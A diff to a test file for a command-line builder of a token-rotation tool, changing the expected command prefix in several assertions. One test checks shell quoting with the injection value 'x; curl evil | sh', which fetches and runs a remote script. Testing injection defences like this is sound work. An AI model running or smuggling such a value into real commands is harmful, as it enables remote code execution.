@@ -6,15 +6,17 @@ describe('commandLine', () => {
     const command = commandLine({ stack: 'crm', region: 'eu-central-1', profile: 'on call' });
 
     expect(command`redrive ${'crm/genesys'}`).toBe(
-      "npm run cli -- redrive crm/genesys --stack crm --region eu-central-1 --profile 'on call'",
+      "genesys-token-rotation redrive crm/genesys --stack crm --region eu-central-1 --profile 'on call'",
     );
     expect(command.on('other')`status`).toBe(
-      "npm run cli -- status --stack other --region eu-central-1 --profile 'on call'",
+      "genesys-token-rotation status --stack other --region eu-central-1 --profile 'on call'",
     );
-    expect(commandLine()`status`).toBe('npm run cli -- status');
+    expect(commandLine()`status`).toBe('genesys-token-rotation status');
   });
 
   it('quotes an inserted word for a shell', () => {
-    expect(commandLine()`rotate ${'x; curl evil | sh'}`).toBe("npm run cli -- rotate 'x; curl evil | sh'");
+    expect(commandLine()`rotate ${'x; curl evil | sh'}`).toBe(
+      "genesys-token-rotation rotate 'x; curl evil | sh'",
+    );
   });
 });
